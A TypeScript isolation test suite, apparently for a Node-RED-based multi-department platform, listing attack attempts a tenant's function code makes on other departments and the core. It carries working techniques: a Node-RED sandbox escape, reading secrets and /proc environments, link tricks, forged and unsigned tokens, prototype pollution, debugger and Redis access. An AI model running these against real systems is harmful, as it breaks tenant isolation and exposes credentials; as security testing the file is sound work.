// What somebody who may write functions in department A could try, to reach department B or the platform.

/** What an attacker knows, or in the control run has: then each attempt must come through. */
export interface Target {
  /** The data folder, and the folder of this program. */
  data: string;
  program: string;
  ownFolder: string;
  /** A native add-on that exists on this machine. */
  addon: string;
  corePid: number;
  otherPid: number;
  /** A process that might open a debugger when it is told to, and where it would be. */
  debuggee: number;
  inspectPort: number;
  coreUrl: string;
  otherFlowsUrl: string;
  redisPort: number;
  busUrl: string;
  /** The token of the link that it has. */
  linkToken: string;
  /** The token with which it tries to sign assertions for B. */
  signingToken: string;
  /** `none` leaves signatures out. */
  unsigned: 'HS256' | 'none';
  /** Given in the control run only. */
  redisPassword: string;
  cookie: string;
  /** MQTT users with passwords for: hearing B's sensors, speaking as B's device, everything. */
  hearAs: string;
  speakAs: string;
  coreAs: string;
  retain: boolean;
  /** An asset and a point that are B's; in the control run its own. */
  asset: string;
  property: string;
  point: string;
  value: unknown;
  ownPoint: string;
  ownValue: unknown;
  slot: number;
}

/** The body of an async function of `process`, `t` (a {@link Target}) and the helpers below. It throws when it reaches nothing. */
export interface Attempt {
  name: string;
  code: string;
}

/** Runs an attempt inside a function node: out of Node-RED's sandbox first, as anybody can. */
export const FUNCTION_NODE = `
const real = util.constructor.constructor;
const process = real('return process')();
const AsyncFunction = real('return (async () => {}).constructor')();
const { code, t } = msg.payload;
try {
  const loot = await new AsyncFunction('process', 't', code)(process, t);
  msg.payload = { loot: String(loot) };
} catch (error) {
  msg.payload = { error: String(error?.message ?? error) };
}
return msg;
`;

const HELPERS = `
const core = (name) => process.getBuiltinModule(name);
const fs = core('fs');
const program = core('module').createRequire(t.program + '/flows/host/main.ts');
const late = (ms) => new Promise((_, reject) => setTimeout(() => reject(new Error('nobody answered in time')), ms));
const got = async (url, options) => {
  const answer = await Promise.race([fetch(url, options), late(4000)]);
  if (!answer.ok) throw new Error('answered ' + answer.status);
  return (await answer.text()).slice(0, 200);
};
const assertion = () => {
  const part = (value) => Buffer.from(JSON.stringify(value)).toString('base64url');
  const iat = Math.floor(Date.now() / 1000);
  const text = part({ alg: t.unsigned }) + '.' + part({ permissions: '*', iss: 'signalbox', aud: 'flows:waste', sub: 'ann', iat, exp: iat + 60 });
  const key = core('crypto').createHash('sha256').update(t.signingToken).digest();
  return text + '.' + (t.unsigned === 'none' ? '' : core('crypto').createHmac('sha256', key).update(text).digest('base64url'));
};
const link = (frame) => {
  const { WebSocket } = program('ws');
  const socket = new WebSocket(t.coreUrl.replace('http', 'ws') + '/link', { headers: { authorization: 'Bearer ' + t.linkToken } });
  const answer = new Promise((resolve, reject) => {
    socket.on('error', reject);
    socket.on('close', () => reject(new Error('the link was closed')));
    socket.on('message', (data) => {
      const said = JSON.parse(data);
      if (said.type === 'catalogue') socket.send(typeof frame === 'string' ? frame : JSON.stringify(frame));
      else if (said.accepted === 1 || said.ok === true) resolve(JSON.stringify(said));
      else if (said.type === 'ack' || said.type === 'result' || said.type === 'busy') reject(new Error(JSON.stringify(said)));
    });
  });
  return Promise.race([answer, late(5000)]).finally(() => socket.terminate());
};
const claim = (more) => ({ type: 'request', id: 'x', request: { do: 'claim', effect: 'set', leaseSeconds: 60, reason: 'x', key: 'x' + Math.random(), slot: 13, point: t.ownPoint, value: t.ownValue, ...more } });
const reading = (more) => ({ type: 'readings', seq: 1, readings: [{ id: 'x' + Math.random(), asset: t.asset, property: t.property, value: 0.1, observedAt: Date.now(), ...more }] });
const bus = (user, use) => {
  const url = new URL(t.busUrl);
  const [username, password] = user.split(' ');
  const client = program('mqtt').connect('mqtt://' + url.host, { username, password, reconnectPeriod: 0, connectTimeout: 3000 });
  const work = new Promise((resolve, reject) => {
    client.on('error', reject);
    client.on('close', () => reject(new Error('the broker hung up')));
    client.on('connect', () => use(client).then(resolve, reject));
  });
  return Promise.race([work, late(5000)]).finally(() => client.end(true));
};
`;

const attempt = (name: string, code: string): Attempt => ({ name, code: HELPERS + code });

/** All of them. */
export const ATTEMPTS: readonly Attempt[] = [
  attempt('read the box’s secrets', `return fs.readFileSync(t.data + '/secrets.json', 'utf8')`),
  attempt('read another department’s flows', `return fs.readFileSync(t.data + '/flows/waste/flows.json', 'utf8')`),
  attempt(
    'read the key of its credentials',
    `return fs.readFileSync(t.data + '/flows/waste/credential-secret', 'utf8')`,
  ),
  attempt(
    'change another department’s flows',
    `fs.appendFileSync(t.data + '/flows/waste/flows.json', ' '); return 'changed'`,
  ),
  attempt('leave a file with it', `fs.writeFileSync(t.data + '/flows/waste/left.json', '[]'); return 'left'`),
  attempt('list the data folder', `return fs.readdirSync(t.data).join()`),
  attempt('read the database', `return fs.readFileSync(t.data + '/database/PG_VERSION', 'utf8')`),
  attempt(
    'read the password of Redis in its configuration',
    `return fs.readFileSync(t.data + '/redis/redis.conf', 'utf8')`,
  ),
  attempt(
    'reach the secrets through a symbolic link in its own folder',
    `const path = t.ownFolder + '/symbolic-link'; fs.symlinkSync(t.data + '/secrets.json', path); return fs.readFileSync(path, 'utf8')`,
  ),
  attempt(
    'reach another department’s flows through a hard link in its own folder',
    `const path = t.ownFolder + '/hard-link'; fs.linkSync(t.data + '/flows/waste/flows.json', path); return fs.readFileSync(path, 'utf8')`,
  ),
  attempt(
    'find somebody’s password in its environment',
    `const found = Object.entries(process.env).filter(([name]) => /REDIS|LINK_TOKENS|CREDENTIALS|PASSWORD/.test(name)); if (found.length === 0) throw new Error('nothing'); return found.join()`,
  ),
  attempt('read the core’s environment', `return fs.readFileSync('/proc/' + t.corePid + '/environ', 'utf8')`),
  attempt(
    'read another department’s environment',
    `return fs.readFileSync('/proc/' + t.otherPid + '/environ', 'utf8')`,
  ),
  attempt('open another department’s memory', `return fs.openSync('/proc/' + t.otherPid + '/mem', 'r')`),
  attempt('start a program', `return core('child_process').execFileSync('/usr/bin/id', { encoding: 'utf8' })`),
  attempt(
    'start a Node of its own',
    `const { status, stdout, error } = core('child_process').spawnSync(process.execPath, ['-p', '1'], { encoding: 'utf8' }); if (error) throw error; if (status) throw new Error(String(status)); return stdout`,
  ),
  attempt(
    'read the secrets from a worker',
    `const { Worker } = core('worker_threads');
     const worker = new Worker("require('worker_threads').parentPort.postMessage(require('fs').readFileSync(require('worker_threads').workerData, 'utf8'))", { eval: true, workerData: t.data + '/secrets.json' });
     return new Promise((resolve, reject) => worker.once('message', resolve).once('error', reject))`,
  ),
  attempt(
    'load native code',
    `const module = { exports: {} }; process.dlopen(module, t.addon); return Object.keys(module.exports).length`,
  ),
  attempt('become root', `process.setuid(0); return process.getuid()`),
  attempt('signal the core', `process.kill(t.corePid, 0); return 'it could have been any signal'`),
  attempt('signal another department’s runtime', `process.kill(t.otherPid, 0); return 'it could have been any signal'`),
  attempt(
    'open a debugger in another process',
    `process.kill(t.debuggee, 'SIGUSR1');
     for (let i = 0; ; i += 1)
       try { return await got('http://127.0.0.1:' + t.inspectPort + '/json/list') }
       catch (error) { if (i > 20) throw error; await new Promise((resolve) => setTimeout(resolve, 100)) }`,
  ),
  attempt(
    'speak with Redis',
    `const socket = core('net').connect(t.redisPort, '127.0.0.1');
     const answer = new Promise((resolve, reject) => { socket.once('error', reject); let text = ''; socket.on('data', (data) => { text += data; if (/PONG|NOAUTH/.test(text)) resolve(text) }) });
     socket.write((t.redisPassword && 'AUTH ' + t.redisPassword + '\\r\\n') + 'PING\\r\\n');
     const text = await Promise.race([answer, late(4000)]).finally(() => socket.destroy());
     if (!text.includes('PONG')) throw new Error(text); return text`,
  ),
  attempt('use the API', `return got(t.coreUrl + '/api/commands', { headers: { cookie: t.cookie } })`),
  attempt(
    'use the API with its link’s token',
    `return got(t.coreUrl + '/api/commands', { headers: t.cookie ? { cookie: t.cookie } : { authorization: 'Bearer ' + t.linkToken } })`,
  ),
  attempt(
    'open another department’s editor with an assertion of its own making',
    `return got(t.otherFlowsUrl + '/flows/waste/flows', { headers: { 'x-signalbox-assertion': assertion() } })`,
  ),
  attempt(
    'deploy in another department with an assertion of its own making',
    `return got(t.otherFlowsUrl + '/flows/waste/flow', { method: 'POST', headers: { 'content-type': 'application/json', 'x-signalbox-assertion': assertion() }, body: JSON.stringify({ label: 'x', nodes: [], configs: [] }) })`,
  ),
  attempt(
    'open another department’s editor with an assertion without signature',
    `t.unsigned = t.cookie ? 'HS256' : 'none'; return got(t.otherFlowsUrl + '/flows/waste/flows', { headers: { 'x-signalbox-assertion': assertion() } })`,
  ),
  attempt(
    'call another department’s pages past the gateway',
    `return got(t.otherFlowsUrl + '/flows/waste/http/page', { headers: t.cookie ? { 'x-signalbox-assertion': assertion() } : {} })`,
  ),
  attempt('report a reading of another department’s asset', `return link(reading())`),
  attempt(
    'report one with a prototype of its own',
    `const game = '{"__proto__":{"department":"waste","asset":"' + t.asset + '"},"constructor":{"prototype":{"department":"waste"}},"id"';
     return link(JSON.stringify(reading()).replace('{"id"', t.cookie ? '{"id"' : game))`,
  ),
  attempt(
    'claim after it has changed the prototype of all objects',
    `Object.prototype.department = 'waste'; Object.prototype.owner = 'waste';
     try { return await link(claim({ point: t.point, value: t.value })) } finally { delete Object.prototype.department; delete Object.prototype.owner }`,
  ),
  attempt('claim a point of another department', `return link(claim({ point: t.point, value: t.value }))`),
  attempt('claim in the slot of operators', `return link(claim({ slot: t.slot }))`),
  attempt(
    'hear another department’s sensors',
    `return bus(t.hearAs, (client) => new Promise((resolve, reject) => client.subscribe('signalbox/v1/waste/+/telemetry', (error, granted) => error || granted[0].qos > 2 ? reject(error ?? new Error('refused')) : resolve('heard'))))`,
  ),
  attempt(
    'send a device’s report',
    `return bus(t.speakAs, (client) => client.publishAsync('signalbox/v1/waste/nobody/report', '{}', { qos: 1 }).then(() => 'sent'))`,
  ),
  attempt(
    'leave a retained command with the broker',
    `return bus(t.coreAs, (client) => client.publishAsync('signalbox/v1/waste/nobody/command', '{}', { qos: 1, retain: t.retain }).then(() => 'sent'))`,
  ),
  attempt(
    'enter the broker as the core with its own password',
    `return bus(t.coreAs.replace(/^traffic /, 'core '), async () => 'in')`,
  ),
];
